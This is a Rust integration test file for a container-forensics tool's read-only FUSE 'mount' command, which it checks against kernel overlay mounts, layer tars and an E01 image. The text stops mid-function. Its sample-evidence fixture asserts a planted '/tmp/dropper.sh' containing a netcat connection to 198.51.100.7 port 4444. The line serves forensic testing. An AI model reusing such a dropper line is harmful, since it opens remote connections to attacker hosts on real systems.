//! `mount` against independent oracles, on the basic fixture written by a
//! real dockerd:
//! - the kernel itself: the fixture host's real overlay mount of
//!   `evil-web` (its `diff` dir over the `lower` chain dockerd recorded)
//!   and of an image's first N diff dirs, compared entry by entry with
//!   the FUSE view (names, types, modes, owners, sizes, times, symlink
//!   targets, device numbers, xattrs, hard links, content sha256);
//! - the layer tars: an image's layers, checked against the diff_ids the
//!   engine gave (`basic.expected.json`), applied in order into a
//!   directory with OCI whiteout handling, compared with the view;
//! - `docker diff` as the engine printed it, from the host tree and from
//!   `basic.disk.E01`; the E01 view equal to the host-tree view;
//! - every kind of write fails with `EROFS`; SIGTERM and `umount` end the
//!   process with status 0 and leave no mount behind; the evidence file's
//!   sha256 is unchanged after every file was read through the mount.
//!
//! All of it needs root and `/dev/fuse`; without them each test skips
//! loudly (and fails under CI).

mod common;

use common::*;
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::ffi::{CString, OsStr, OsString};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

const EROFS: i32 = 30;

fn fuse_ready() -> bool {
    if !is_root() {
        skip("mount tests need root (FUSE mount without fusermount3, kernel overlay oracle)");
        return false;
    }
    if !Path::new("/dev/fuse").exists() {
        skip("mount tests need /dev/fuse");
        return false;
    }
    true
}

fn mounted(mp: &Path) -> bool {
    let want = mp.canonicalize().unwrap_or_else(|_| mp.to_path_buf());
    std::fs::read_to_string("/proc/mounts")
        .unwrap_or_default()
        .lines()
        .any(|l| l.split(' ').nth(1) == Some(want.to_string_lossy().as_ref()))
}

/// A `docker-forensics mount` running in the background.
struct Mounted {
    child: Option<Child>,
    mp: tempfile::TempDir,
    log: PathBuf,
    _logdir: tempfile::TempDir,
}

impl Mounted {
    /// Runs `mount ARGS... MOUNTPOINT` and waits until the mount is there.
    fn start<S: AsRef<OsStr>>(args: &[S]) -> Mounted {
        let mp = tempfile::tempdir().expect("mount point");
        let logdir = tempfile::tempdir().expect("log dir");
        let log = logdir.path().join("stderr");
        let child = Command::new(env!("CARGO_BIN_EXE_docker-forensics"))
            .arg("mount")
            .args(args)
            .arg(mp.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).expect("log"))
            .spawn()
            .expect("spawn docker-forensics mount");
        let mut m = Mounted {
            child: Some(child),
            mp,
            log,
            _logdir: logdir,
        };
        let start = Instant::now();
        while !mounted(m.path()) {
            if let Some(st) = m.child.as_mut().and_then(|c| c.try_wait().ok().flatten()) {
                panic!("mount exited early ({st}): {}", m.stderr());
            }
            assert!(
                start.elapsed() < Duration::from_secs(60),
                "not mounted after 60 s: {}",
                m.stderr()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        m
    }

    fn path(&self) -> &Path {
        self.mp.path()
    }

    fn stderr(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// Waits (at most 30 s) for the process to end.
    fn wait(&mut self) -> ExitStatus {
        let child = self.child.as_mut().expect("running");
        let start = Instant::now();
        loop {
            if let Some(st) = child.try_wait().expect("try_wait") {
                self.child = None;
                return st;
            }
            assert!(
                start.elapsed() < Duration::from_secs(30),
                "still running 30 s after being told to stop"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn signal(&self, sig: rustix::process::Signal) {
        let pid = self.child.as_ref().expect("running").id();
        let pid = rustix::process::Pid::from_raw(pid as i32).expect("pid");
        rustix::process::kill_process(pid, sig).expect("kill");
    }

    /// SIGTERM, then the exit status.
    fn stop(mut self) -> ExitStatus {
        self.signal(rustix::process::Signal::TERM);
        self.wait()
    }
}

impl Drop for Mounted {
    fn drop(&mut self) {
        // Never panics (a panic while unwinding aborts and leaves the
        // mount behind): SIGTERM, then SIGKILL after 10 s.
        if let Some(mut child) = self.child.take() {
            let pid = rustix::process::Pid::from_raw(child.id() as i32);
            if let Some(pid) = pid {
                let _ = rustix::process::kill_process(pid, rustix::process::Signal::TERM);
            }
            let start = Instant::now();
            while matches!(child.try_wait(), Ok(None)) && start.elapsed() < Duration::from_secs(10)
            {
                std::thread::sleep(Duration::from_millis(50));
            }
            let _ = child.kill();
            let _ = child.wait();
        }
        if mounted(self.path()) {
            let _ = Command::new("umount").arg("-l").arg(self.path()).status();
        }
    }
}

/// A read-only kernel overlay of `lowers` (topmost first), as dockerd
/// mounts a container (without its upper dir's write side).
/// An empty directory is added at the bottom: overlayfs wants two lower
/// directories at least, and an empty one adds nothing.
struct Overlay(tempfile::TempDir, #[allow(dead_code)] tempfile::TempDir);

impl Overlay {
    fn mount(lowers: &[PathBuf]) -> Option<Overlay> {
        let mp = tempfile::tempdir().expect("overlay mount point");
        let empty = tempfile::tempdir().expect("empty lower dir");
        let mut lower: Vec<String> = lowers.iter().map(|p| p.display().to_string()).collect();
        lower.push(empty.path().display().to_string());
        let out = Command::new("mount")
            .args(["-t", "overlay", "overlay", "-o"])
            .arg(format!("ro,lowerdir={}", lower.join(":")))
            .arg(mp.path())
            .output()
            .expect("run mount");
        if !out.status.success() {
            skip(&format!(
                "kernel overlay mount failed: {}",
                String::from_utf8_lossy(&out.stderr)
            ));
            return None;
        }
        Some(Overlay(mp, empty))
    }
}

impl Drop for Overlay {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(self.0.path()).status();
    }
}

/// One entry as `lstat`, `readlink`, `llistxattr` and a read show it.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Entry {
    kind: &'static str,
    mode: u32,
    uid: u32,
    gid: u32,
    /// Not for directories (their size is the underlying filesystem's).
    size: Option<u64>,
    mtime: (i64, i64),
    ctime: Option<(i64, i64)>,
    nlink: Option<u64>,
    rdev: Option<u64>,
    target: Option<Vec<u8>>,
    xattrs: Vec<(Vec<u8>, Vec<u8>)>,
    sha256: Option<String>,
}

/// Which fields to compare.
#[derive(Clone, Copy)]
struct Fields {
    ctime: bool,
    owners: bool,
    times: bool,
    /// Sub-second parts (an ext4 with 128-byte inodes keeps none).
    nanos: bool,
    xattrs: bool,
}

const ALL: Fields = Fields {
    ctime: true,
    owners: true,
    times: true,
    nanos: true,
    xattrs: true,
};

fn xattrs(p: &Path) -> Vec<(Vec<u8>, Vec<u8>)> {
    let c = CString::new(p.as_os_str().as_bytes()).expect("path");
    let mut names = vec![0u8; 65536];
    // SAFETY: the buffer is valid for its length; the path is NUL-terminated.
    let n = unsafe { libc::llistxattr(c.as_ptr(), names.as_mut_ptr().cast(), names.len()) };
    if n <= 0 {
        return Vec::new();
    }
    names.truncate(n as usize);
    let mut out = Vec::new();
    for name in names.split(|b| *b == 0).filter(|n| !n.is_empty()) {
        let cn = CString::new(name).expect("name");
        let mut v = vec![0u8; 65536];
        // SAFETY: as above.
        let k = unsafe { libc::lgetxattr(c.as_ptr(), cn.as_ptr(), v.as_mut_ptr().cast(), v.len()) };
        v.truncate(k.max(0) as usize);
        out.push((name.to_vec(), v));
    }
    out.sort();
    out
}

/// Every entry under `root` (the root itself as `/`), and the groups of
/// paths sharing one inode (hard links).
fn snapshot(root: &Path, f: Fields) -> (BTreeMap<String, Entry>, BTreeSet<Vec<String>>) {
    let mut out = BTreeMap::new();
    let mut inodes: BTreeMap<u64, Vec<String>> = BTreeMap::new();
    let mut stack = vec![(root.to_path_buf(), String::from("/"))];
    while let Some((p, rel)) = stack.pop() {
        let m = std::fs::symlink_metadata(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
        let t = m.file_type();
        let kind = if t.is_dir() {
            "dir"
        } else if t.is_file() {
            "file"
        } else if t.is_symlink() {
            "symlink"
        } else if t.is_char_device() {
            "char"
        } else if t.is_block_device() {
            "block"
        } else if t.is_fifo() {
            "fifo"
        } else {
            "socket"
        };
        let sha256 = t.is_file().then(|| {
            let bytes = std::fs::read(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
            hex::encode(Sha256::digest(&bytes))
        });
        let mut x = if f.xattrs { xattrs(&p) } else { Vec::new() };
        // The host's own policy label, not the layer's.
        x.retain(|(k, _)| k != b"security.selinux");
        let e = Entry {
            kind,
            mode: m.mode() & 0o7777,
            uid: if f.owners { m.uid() } else { 0 },
            gid: if f.owners { m.gid() } else { 0 },
            size: (!t.is_dir()).then_some(m.size()),
            mtime: if f.times {
                (m.mtime(), if f.nanos { m.mtime_nsec() } else { 0 })
            } else {
                (0, 0)
            },
            ctime: (f.ctime && !t.is_dir()).then_some((m.ctime(), m.ctime_nsec())),
            nlink: (!t.is_dir()).then_some(m.nlink()),
            rdev: (t.is_char_device() || t.is_block_device()).then_some(m.rdev()),
            target: t.is_symlink().then(|| {
                std::fs::read_link(&p)
                    .expect("readlink")
                    .into_os_string()
                    .into_vec()
            }),
            xattrs: x,
            sha256,
        };
        if !t.is_dir() && m.nlink() > 1 {
            inodes.entry(m.ino()).or_default().push(rel.clone());
        }
        out.insert(rel.clone(), e);
        if t.is_dir() {
            for d in std::fs::read_dir(&p).expect("read_dir") {
                let d = d.expect("entry");
                let name = d.file_name();
                let child = if rel == "/" {
                    format!("/{}", name.to_string_lossy())
                } else {
                    format!("{rel}/{}", name.to_string_lossy())
                };
                stack.push((d.path(), child));
            }
        }
    }
    let links = inodes
        .into_values()
        .filter(|v| v.len() > 1)
        .map(|mut v| {
            v.sort();
            v
        })
        .collect();
    (out, links)
}

use std::os::unix::ffi::OsStringExt;

/// Asserts two snapshots are equal, naming the first difference.
fn assert_same(
    what: &str,
    got: &(BTreeMap<String, Entry>, BTreeSet<Vec<String>>),
    want: &(BTreeMap<String, Entry>, BTreeSet<Vec<String>>),
) {
    let gk: BTreeSet<_> = got.0.keys().collect();
    let wk: BTreeSet<_> = want.0.keys().collect();
    assert_eq!(
        gk.difference(&wk).collect::<Vec<_>>(),
        Vec::<&&String>::new(),
        "{what}: names only in the mount"
    );
    assert_eq!(
        wk.difference(&gk).collect::<Vec<_>>(),
        Vec::<&&String>::new(),
        "{what}: names missing from the mount"
    );
    for (k, w) in &want.0 {
        assert_eq!(
            &got.0[k], w,
            "{what}: {k} differs (left: mount, right: oracle)"
        );
    }
    assert_eq!(got.1, want.1, "{what}: hard-link groups differ");
}

fn docker(host: &Path) -> PathBuf {
    docker_root(host)
}

/// The overlay dirs dockerd stacks for container `id`: its `diff`, then
/// the `lower` chain it recorded (`l/<short>` links), topmost first.
fn container_dirs(host: &Path, id: &str) -> Vec<PathBuf> {
    let d = docker(host);
    let mount_id = std::fs::read_to_string(
        d.join("image/overlay2/layerdb/mounts")
            .join(id)
            .join("mount-id"),
    )
    .expect("mount-id");
    let layer = d.join("overlay2").join(mount_id.trim());
    let lower = std::fs::read_to_string(layer.join("lower")).expect("lower");
    let mut dirs = vec![layer.join("diff")];
    dirs.extend(lower.trim().split(':').map(|l| d.join("overlay2").join(l)));
    // The lower chain names `l/<short>` symlinks to the layers' diff dirs.
    dirs.iter()
        .map(|p| p.canonicalize().expect("layer dir"))
        .collect()
}

/// The diff dirs of image `tag`'s layers, lowest first, found from its
/// config's diff_ids through their chain ids (OCI image-spec `config.md`)
/// and the layer database's `cache-id`.
fn image_dirs(host: &Path, tag: &str) -> Vec<PathBuf> {
    let (config, _) = image_config_path(host, "basic", tag);
    let config: serde_json::Value =
        serde_json::from_slice(&std::fs::read(config).expect("config")).expect("json");
    let d = docker(host);
    let mut chain = String::new();
    let mut dirs = Vec::new();
    for diff in config["rootfs"]["diff_ids"].as_array().expect("diff_ids") {
        let diff = diff.as_str().expect("diff_id");
        chain = if chain.is_empty() {
            diff.to_string()
        } else {
            format!(
                "sha256:{}",
                hex::encode(Sha256::digest(format!("{chain} {diff}").as_bytes()))
            )
        };
        let cache = std::fs::read_to_string(
            d.join("image/overlay2/layerdb/sha256")
                .join(chain.trim_start_matches("sha256:"))
                .join("cache-id"),
        )
        .expect("cache-id");
        dirs.push(d.join("overlay2").join(cache.trim()).join("diff"));
    }
    dirs
}

fn host_basic() -> Option<PathBuf> {
    if !fuse_ready() {
        return None;
    }
    host("basic")
}

#[test]
fn container_view_equals_the_kernel_overlay() {
    let Some(h) = host_basic() else { return };
    let id = container_id("basic", "evil-web");
    let Some(kernel) = Overlay::mount(&container_dirs(&h, &id)) else {
        return;
    };
    let m = Mounted::start(&[OsStr::new("evil-web"), h.as_os_str()]);
    let want = snapshot(kernel.0.path(), ALL);
    assert!(want.0.contains_key("/tmp/dropper.sh"));
    assert_same("evil-web", &snapshot(m.path(), ALL), &want);
}

#[test]
fn image_view_at_every_layer_equals_the_kernel_overlay() {
    let Some(h) = host_basic() else { return };
    for tag in ["fixture/web:1.0", "fixture/tool:2"] {
        let dirs = image_dirs(&h, tag);
        for n in 0..dirs.len() {
            let mut lowers: Vec<PathBuf> = dirs[..=n].to_vec();
            lowers.reverse();
            let Some(kernel) = Overlay::mount(&lowers) else {
                return;
            };
            let nth = n.to_string();
            let m = Mounted::start(&[
                OsStr::new(tag),
                h.as_os_str(),
                OsStr::new("--layer"),
                OsStr::new(&nth),
            ]);
            assert_same(
                &format!("{tag} --layer {n}"),
                &snapshot(m.path(), ALL),
                &snapshot(kernel.0.path(), ALL),
            );
        }
        // Without --layer: the whole image, as its top layer.
        let mut lowers = dirs.clone();
        lowers.reverse();
        let Some(kernel) = Overlay::mount(&lowers) else {
            return;
        };
        let m = Mounted::start(&[OsStr::new(tag), h.as_os_str()]);
        assert_same(
            tag,
            &snapshot(m.path(), ALL),
            &snapshot(kernel.0.path(), ALL),
        );
    }
}

/// Applies an OCI layer tar onto `dst` (image-spec `layer.md`: whiteouts
/// `.wh.<name>` delete, `.wh..wh..opq` empties the directory first).
fn apply_layer(tar_path: &Path, dst: &Path) {
    let mut ar = tar::Archive::new(std::fs::File::open(tar_path).expect("layer tar"));
    for e in ar.entries().expect("entries") {
        let mut e = e.expect("entry");
        let path = e.path().expect("path").into_owned();
        let name = path
            .file_name()
            .map(|n| n.as_bytes().to_vec())
            .unwrap_or_default();
        let parent = dst.join(path.parent().unwrap_or(Path::new("")));
        if name == b".wh..wh..opq" {
            for c in std::fs::read_dir(&parent).into_iter().flatten().flatten() {
                remove(&c.path());
            }
            continue;
        }
        if let Some(gone) = name.strip_prefix(b".wh.") {
            remove(&parent.join(OsStr::from_bytes(gone)));
            continue;
        }
        let target = dst.join(&path);
        if e.header().entry_type() == tar::EntryType::Fifo {
            // The tar crate unpacks a FIFO as an empty file.
            remove(&target);
            let mode = e.header().mode().expect("mode") & 0o7777;
            let c = CString::new(target.as_os_str().as_bytes()).expect("path");
            // SAFETY: a NUL-terminated path.
            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), mode) }, 0, "mkfifo");
            // SAFETY: as above (mkfifo's mode is masked by the umask).
            assert_eq!(unsafe { libc::chmod(c.as_ptr(), mode) }, 0, "chmod");
            continue;
        }
        if let Ok(m) = std::fs::symlink_metadata(&target)
            && !(m.is_dir() && e.header().entry_type().is_dir())
        {
            remove(&target);
        }
        e.set_preserve_permissions(true);
        e.set_preserve_mtime(true);
        e.unpack_in(dst).expect("unpack");
    }
}

fn remove(p: &Path) {
    match std::fs::symlink_metadata(p) {
        Ok(m) if m.is_dir() => std::fs::remove_dir_all(p).expect("rm -r"),
        Ok(_) => std::fs::remove_file(p).expect("rm"),
        Err(_) => {}
    }
}

/// Mounts image `tag` of `host` and compares it with its layer tars (as
/// `extract` writes them, each checked against the diff_id the engine
/// gave) applied in order.
fn assert_equals_layer_tars(host: &Path, tag: &str, diff_ids: &[serde_json::Value]) {
    let out = tempfile::tempdir().expect("out");
    let r = run([
        OsStr::new("extract"),
        OsStr::new("-q"),
        OsStr::new(tag),
        host.as_os_str(),
        out.path().as_os_str(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let dirs: Vec<PathBuf> = std::fs::read_dir(out.path())
        .expect("out")
        .map(|e| e.expect("entry").path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("image_"))
        })
        .collect();
    assert_eq!(dirs.len(), 1, "{dirs:?}");
    let applied = tempfile::tempdir().expect("applied");
    assert!(!diff_ids.is_empty());
    for (i, diff_id) in diff_ids.iter().enumerate() {
        let tar = dirs[0].join(format!("layer_{i}/layer.tar"));
        // The tar is the engine's own: its sha256 is the diff_id it gave.
        assert_eq!(
            format!("sha256:{}", sha256_file(&tar)),
            diff_id.as_str().expect("diff_id"),
            "{tag} layer {i}"
        );
        apply_layer(&tar, applied.path());
    }
    let m = Mounted::start(&[OsStr::new(tag), host.as_os_str()]);
    let fields = Fields {
        ctime: false,
        owners: false,
        times: false,
        nanos: false,
        xattrs: false,
    };
    let (mut got, got_links) = snapshot(m.path(), fields);
    let (mut want, want_links) = snapshot(applied.path(), fields);
    for s in [&mut got, &mut want] {
        // The root is no tar member; nlink depends on what linked when.
        s.remove("/");
        for e in s.values_mut() {
            e.nlink = None;
        }
    }
    assert_same(
        &format!("{tag} vs its layer tars"),
        &(got, got_links),
        &(want, want_links),
    );
}

#[test]
fn image_view_equals_its_layer_tars_applied() {
    let Some(h) = host_basic() else { return };
    let img = expected("basic")["images"]
        .as_array()
        .expect("images")
        .iter()
        .find(|i| i["tags"][0] == "fixture/tool:2")
        .expect("fixture/tool:2")
        .clone();
    assert_equals_layer_tars(
        &h,
        "fixture/tool:2",
        img["diff_ids"].as_array().expect("diff_ids"),
    );
}

/// containerd (CRI, namespace k8s.io): an unpacked image equals its layer
/// tars applied; a container shows its changes; an image kept only as
/// blobs is refused with a clear message.
#[test]
fn containerd_image_and_container() {
    if !fuse_ready() {
        return;
    }
    let Some(h) = host("ctrd-basic") else { return };
    let ns = expected("ctrd-basic")["namespaces"]["k8s.io"].clone();
    let image = |name: &str| {
        ns["images"]
            .as_array()
            .expect("images")
            .iter()
            .find(|i| i["name"] == name)
            .unwrap_or_else(|| panic!("{name}"))
            .clone()
    };
    let web = image("registry.example.com/shop/web:2");
    assert_eq!(web["unpacked"], true);
    assert_equals_layer_tars(
        &h,
        "registry.example.com/shop/web:2",
        web["diff_ids"].as_array().expect("diff_ids"),
    );

    let m = Mounted::start(&[OsStr::new("web-0"), h.as_os_str()]);
    let c = ns["containers"]
        .as_array()
        .expect("containers")
        .iter()
        .find(|c| c["id"] == "web-0")
        .expect("web-0")
        .clone();
    for f in c["changed_files"].as_array().expect("changed_files") {
        let f = f.as_str().expect("path");
        let name = Path::new(f).file_name().expect("name").to_string_lossy();
        match name.strip_prefix(".wh.") {
            // Deleted in the container.
            Some(gone) => {
                let p = m.path().join(Path::new(f).with_file_name(gone));
                assert!(std::fs::symlink_metadata(&p).is_err(), "{f}: still there");
            }
            None => assert!(m.path().join(f).exists(), "{f}: not there"),
        }
    }
    drop(m);

    let debug = image("registry.example.com/ops/debug:0.3");
    assert_eq!(debug["unpacked"], false);
    let mp = tempfile::tempdir().expect("mp");
    let r = run([
        OsStr::new("mount"),
        OsStr::new("registry.example.com/ops/debug:0.3"),
        h.as_os_str(),
        mp.path().as_os_str(),
    ]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("kept only as a blob"), "{}", r.stderr);
    assert!(!mounted(mp.path()));
}

/// The engine's own `diff` of container `name` of `fixture`, checked on
/// a mounted view: added and changed paths there, deleted ones not.
fn assert_engine_diff(fixture: &str, name: &str, root: &Path) {
    let c = expected(fixture)["containers"]
        .as_array()
        .expect("containers")
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("{name} in {fixture}"))
        .clone();
    let mut checked = 0;
    for line in c["diff"].as_array().expect("diff") {
        let line = line.as_str().expect("line");
        let (kind, path) = line.split_at(2);
        let p = root.join(path.trim_start_matches('/'));
        match kind.trim() {
            "A" | "C" => assert!(
                std::fs::symlink_metadata(&p).is_ok(),
                "{fixture} {name}: {line}: not there"
            ),
            "D" => assert!(
                std::fs::symlink_metadata(&p).is_err(),
                "{fixture} {name}: {line}: still there"
            ),
            k => panic!("unknown change kind {k}"),
        }
        checked += 1;
    }
    assert!(checked >= 3);
}

/// evil-web's diff, and its dropper's content.
fn assert_docker_diff(root: &Path) {
    assert_engine_diff("basic", "evil-web", root);
    assert_eq!(
        std::fs::read(root.join("tmp/dropper.sh")).expect("dropper.sh"),
        b"#!/bin/sh\nnc 198.51.100.7 4444\n"
    );
    assert!(!root.join("srv/app/hello.txt").exists());
}

#[test]
fn container_view_shows_docker_diff_and_refuses_every_write() {
    let Some(h) = host_basic() else { return };
    let m = Mounted::start(&[OsStr::new("evil-web"), h.as_os_str()]);
    let root = m.path();
    assert_docker_diff(root);
    let file = root.join("tmp/dropper.sh");
    let erofs = |what: &str, r: std::io::Result<()>| {
        let e = r.expect_err(what);
        assert_eq!(e.raw_os_error(), Some(EROFS), "{what}: {e}");
    };
    erofs(
        "create",
        std::fs::File::create(root.join("new")).map(|_| ()),
    );
    erofs(
        "open for writing",
        std::fs::OpenOptions::new()
            .write(true)
            .open(&file)
            .map(|_| ()),
    );
    erofs("unlink", std::fs::remove_file(&file));
    erofs("mkdir", std::fs::create_dir(root.join("d")));
    erofs("rmdir", std::fs::remove_dir(root.join("tmp")));
    erofs("rename", std::fs::rename(&file, root.join("tmp/x")));
    erofs("link", std::fs::hard_link(&file, root.join("tmp/x")));
    erofs(
        "symlink",
        std::os::unix::fs::symlink("x", root.join("tmp/x")),
    );
    use std::os::unix::fs::PermissionsExt;
    erofs(
        "chmod",
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o777)),
    );
    erofs("chown", std::os::unix::fs::lchown(&file, Some(1), Some(1)));
    let c = CString::new(file.as_os_str().as_bytes()).expect("path");
    // SAFETY: valid NUL-terminated strings and buffer.
    let r = unsafe { libc::lsetxattr(c.as_ptr(), c"user.x".as_ptr(), b"1".as_ptr().cast(), 1, 0) };
    assert_eq!(r, -1);
    assert_eq!(std::io::Error::last_os_error().raw_os_error(), Some(EROFS));
    // And the command-line tools examiners would reach for.
    for args in [
        vec!["touch", "x"],
        vec!["rm", "-f", "tmp/dropper.sh"],
        vec!["mkdir", "y"],
        vec!["chmod", "777", "tmp/dropper.sh"],
        vec!["setfattr", "-n", "user.x", "-v", "1", "tmp/dropper.sh"],
    ] {
        let out = Command::new(args[0])
            .args(&args[1..])
            .current_dir(root)
            .output();
        if let Ok(out) = out {
            assert!(!out.status.success(), "{args:?} succeeded");
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(err.contains("Read-only file system"), "{args:?}: {err}");
        }
    }
    assert_eq!(
        std::fs::read(&file).expect("still readable"),
        b"#!/bin/sh\nnc 198.51.100.7 4444\n"
    );
    assert!(m.stop().success());
}

#[test]
fn layer_zero_and_layers_side_by_side() {
    let Some(h) = host_basic() else { return };
    // --layer 0: the base layer's files only.
    let dirs = image_dirs(&h, "fixture/web:1.0");
    let m = Mounted::start(&[
        OsStr::new("fixture/web:1.0"),
        h.as_os_str(),
        OsStr::new("--layer"),
        OsStr::new("0"),
    ]);
    let names = |p: &Path| -> BTreeSet<OsString> {
        std::fs::read_dir(p)
            .expect("read_dir")
            .map(|e| e.expect("entry").file_name())
            .collect()
    };
    assert_eq!(names(m.path()), names(&dirs[0]));
    assert!(!m.path().join("srv/app").exists(), "a later layer's files");
    drop(m);

    // --layers: every layer of evil-web as stored, the writable one on
    // top with its whiteout of /srv/app/hello.txt as a 0/0 char device.
    let id = container_id("basic", "evil-web");
    let cdirs = container_dirs(&h, &id);
    let m = Mounted::start(&[
        OsStr::new("evil-web"),
        h.as_os_str(),
        OsStr::new("--layers"),
    ]);
    let want: BTreeSet<OsString> = (0..cdirs.len())
        .map(|i| OsString::from(format!("layer_{i}")))
        .collect();
    assert_eq!(names(m.path()), want);
    let top = m.path().join(format!("layer_{}", cdirs.len() - 1));
    let wh = std::fs::symlink_metadata(top.join("srv/app/hello.txt")).expect("whiteout shown");
    assert!(wh.file_type().is_char_device());
    assert_eq!(wh.rdev(), 0);
    for (i, d) in cdirs.iter().rev().enumerate() {
        assert_same(
            &format!("layer_{i}"),
            &snapshot(&m.path().join(format!("layer_{i}")), ALL),
            &snapshot(d, ALL),
        );
    }
}

#[test]
fn e01_view_equals_host_view_and_leaves_the_evidence_unchanged() {
    let Some(h) = host_basic() else { return };
    let e01 = fixtures_dir().join("basic.disk.E01");
    if !e01.exists() {
        skip("basic.disk.E01 not found");
        return;
    }
    let before = sha256_file(&e01);
    // ext4 in the image has its own ctimes and keeps no sub-second
    // times; the rest is the same tree.
    let fields = Fields {
        ctime: false,
        owners: true,
        times: true,
        nanos: false,
        xattrs: true,
    };
    let from_dir = Mounted::start(&[OsStr::new("evil-web"), h.as_os_str()]);
    let from_e01 = Mounted::start(&[OsStr::new("evil-web"), e01.as_os_str()]);
    assert_docker_diff(from_e01.path());
    assert_same(
        "evil-web from basic.disk.E01 vs host tree",
        &snapshot(from_e01.path(), fields),
        &snapshot(from_dir.path(), fields),
    );
    // Every file read through the mount (the snapshot read them all).
    let st = Command::new("find")
        .arg(from_e01.path())
        .args(["-type", "f", "-exec", "cat", "{}", "+"])
        .stdout(Stdio::null())
        .status()
        .expect("find");
    assert!(st.success());
    assert!(from_e01.stop().success());
    assert_eq!(sha256_file(&e01), before, "the evidence file changed");
}

#[test]
fn sigterm_and_umount_end_cleanly_and_provenance_is_opt_in() {
    let Some(h) = host_basic() else { return };
    let m = Mounted::start(&[OsStr::new("evil-web"), h.as_os_str()]);
    assert!(!m.path().join(".docker-forensics-provenance.json").exists());
    let mp = m.path().to_path_buf();
    let st = m.stop();
    assert_eq!(st.code(), Some(0), "exit status after SIGTERM");
    assert!(!mounted(&mp), "still mounted after SIGTERM");

    // Unmounted from outside: the process ends by itself, status 0.
    let mut m = Mounted::start(&[
        OsStr::new("evil-web"),
        h.as_os_str(),
        OsStr::new("--with-provenance"),
    ]);
    let doc: serde_json::Value = serde_json::from_slice(
        &std::fs::read(m.path().join(".docker-forensics-provenance.json")).expect("provenance"),
    )
    .expect("provenance is JSON");
    assert_eq!(doc["command"], "mount");
    assert_eq!(
        doc["target"]["container_id"],
        container_id("basic", "evil-web")
    );
    let st = Command::new("umount")
        .arg(m.path())
        .status()
        .expect("umount");
    assert!(st.success());
    let st = m.wait();
    assert_eq!(
        st.code(),
        Some(0),
        "exit status after umount: {}",
        m.stderr()
    );

    // A copy of the mount in another mount namespace (as a container
    // runtime started after the mount makes one) keeps the FUSE
    // connection open; SIGTERM and umount still end the process.
    for how in ["sigterm", "umount"] {
        let mut m = Mounted::start(&[OsStr::new("evil-web"), h.as_os_str()]);
        let Ok(mut holder) = Command::new("unshare")
            .args(["-m", "--propagation", "unchanged", "sleep", "120"])
            .spawn()
        else {
            skip("unshare(1) not found");
            return;
        };
        std::thread::sleep(Duration::from_millis(300));
        if how == "sigterm" {
            m.signal(rustix::process::Signal::TERM);
        } else {
            let st = Command::new("umount")
                .arg(m.path())
                .status()
                .expect("umount");
            assert!(st.success());
        }
        let st = m.wait();
        let _ = holder.kill();
        let _ = holder.wait();
        assert_eq!(st.code(), Some(0), "{how} with a copy: {}", m.stderr());
        assert!(!mounted(m.path()), "{how}: still mounted");
    }
}

#[test]
fn usage_errors() {
    let Some(h) = host_basic() else { return };
    let mp = tempfile::tempdir().expect("mp");
    // --layer past the last layer.
    let r = run([
        OsStr::new("mount"),
        OsStr::new("fixture/web:1.0"),
        h.as_os_str(),
        mp.path().as_os_str(),
        OsStr::new("--layer"),
        OsStr::new("99"),
    ]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("layer 99"), "{}", r.stderr);
    // A mount point inside the evidence.
    let r = run([
        OsStr::new("mount"),
        OsStr::new("evil-web"),
        h.as_os_str(),
        h.join("etc").as_os_str(),
    ]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    // Nothing of that name.
    let r = run([
        OsStr::new("mount"),
        OsStr::new("no-such-thing"),
        h.as_os_str(),
        mp.path().as_os_str(),
    ]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("no image and no container"),
        "{}",
        r.stderr
    );
    assert!(!mounted(mp.path()));

    // A prefix of evil-web's id that also starts image ids: say which.
    let id = container_id("basic", "evil-web");
    let prefix = &id[..1];
    let images = expected("basic")["images"]
        .as_array()
        .expect("images")
        .clone();
    assert!(
        images.iter().any(|i| i["id"]
            .as_str()
            .unwrap_or("")
            .trim_start_matches("sha256:")
            .starts_with(prefix)),
        "the fixture has an image id starting with {prefix}"
    );
    let r = run([
        OsStr::new("mount"),
        OsStr::new(prefix),
        h.as_os_str(),
        mp.path().as_os_str(),
    ]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("--container"), "{}", r.stderr);
    assert!(!mounted(mp.path()));
    let m = Mounted::start(&[OsStr::new(prefix), h.as_os_str(), OsStr::new("--container")]);
    assert!(m.path().join("tmp/dropper.sh").is_file());
}

#[test]
fn docker29_and_podman5_containers_from_host_tree_and_e01() {
    if !fuse_ready() {
        return;
    }
    for (fixture, name) in [("moby29", "evil-web"), ("podman5", "builder-run")] {
        let e01 = fixtures_dir().join(format!("{fixture}.disk.E01"));
        let Some(h) = host(fixture) else { return };
        if !e01.exists() {
            skip(&format!("{} not found", e01.display()));
            return;
        }
        let from_dir = Mounted::start(&[OsStr::new(name), h.as_os_str()]);
        let from_e01 = Mounted::start(&[OsStr::new(name), e01.as_os_str()]);
        assert_engine_diff(fixture, name, from_dir.path());
        assert_engine_diff(fixture, name, from_e01.path());
        let fields = Fields {
            ctime: false,
            owners: true,
            times: true,
            nanos: false,
            xattrs: true,
        };
        assert_same(
            &format!("{fixture} {name} from E01 vs host tree"),
            &snapshot(from_e01.path(), fields),
